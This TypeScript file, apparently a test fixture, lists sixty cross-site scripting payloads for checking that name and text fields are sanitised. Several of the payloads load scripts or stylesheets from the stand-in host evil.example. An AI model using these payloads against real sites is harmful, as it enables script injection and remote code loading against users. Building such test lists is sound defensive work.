// What attackers type where a name or a text goes. Each would call ran(), or load something from elsewhere.

const CALLS = 'ran()'

/** Sixty, each of at most 60 signs: the longest name anything here may have. */
export const PAYLOADS: readonly string[] = [
  `<script>${CALLS}</script>`, `<ScRiPt>${CALLS}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `"><script>${CALLS}</script>`, `'><script>${CALLS}</script>`,
  `</title><script>${CALLS}</script>`, `</textarea><script>${CALLS}</script>`, `</script><script>${CALLS}</script>`, `<<script>${CALLS}//<</script>`, `<script/x>${CALLS}</script>`,
  `<img src=x onerror=${CALLS}>`, `<img src=x onerror="${CALLS}">`, `"><img src=x onerror=${CALLS}>`, `<img/src=x/onerror=${CALLS}>`, `<IMG SRC=x OnErRoR=${CALLS}>`,
  `<img src="x\` onerror=${CALLS}">`, `<image href=x onerror=${CALLS}>`, `<img src=//evil.example/p.png>`, `<img srcset=//evil.example/p.png>`, `<picture><img src=x onerror=${CALLS}></picture>`,
  `<svg onload=${CALLS}>`, `<svg/onload=${CALLS}>`, `<svg><script>${CALLS}</script></svg>`, `<svg><animate onbegin=${CALLS} attributeName=x>`, `<svg><a href=javascript:${CALLS}><text y=9>x</text></a>`,
  `<body onload=${CALLS}>`, `<iframe src=javascript:${CALLS}></iframe>`, `<iframe srcdoc="<script>parent.${CALLS}</script>">`, `<object data=javascript:${CALLS}>`, `<embed src=javascript:${CALLS}>`,
  `<a href=javascript:${CALLS}>x</a>`, `<a href="java&#x09;script:${CALLS}">x</a>`, `<form action=javascript:${CALLS}><button>x`, `<button formaction=javascript:${CALLS}>x`, `<input autofocus onfocus=${CALLS}>`,
  `<select autofocus onfocus=${CALLS}>`, `<textarea autofocus onfocus=${CALLS}>`, `<details open ontoggle=${CALLS}>x`, `<video src=x onerror=${CALLS}>`, `<audio src=x onerror=${CALLS}>`,
  `<video><source onerror=${CALLS}></video>`, `<marquee onstart=${CALLS}>x`, `<style>@import '//evil.example/x.css'</style>`, `<style onload=${CALLS}></style>`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;javascript:${CALLS}">`, `<base href=//evil.example/>`, `<math><mi xlink:href=javascript:${CALLS}>x`, `<template><script>${CALLS}</script></template>`, `<div style="background:url(//evil.example/b)">`,
  `<div onpointerenter=${CALLS} style=position:fixed;inset:0>`, `<x onclick=${CALLS} tabindex=1 autofocus>`, `{{constructor.constructor('${CALLS}')()}}`, `\${${CALLS}}`, `javascript:${CALLS}`,
  `data:text/html,<script>${CALLS}</script>`, `&lt;script&gt;${CALLS}&lt;/script&gt;`, `\\u003cscript\\u003e${CALLS}\\u003c/script\\u003e`, `';${CALLS};//`, `\u202E<script>${CALLS}</script>`,
]
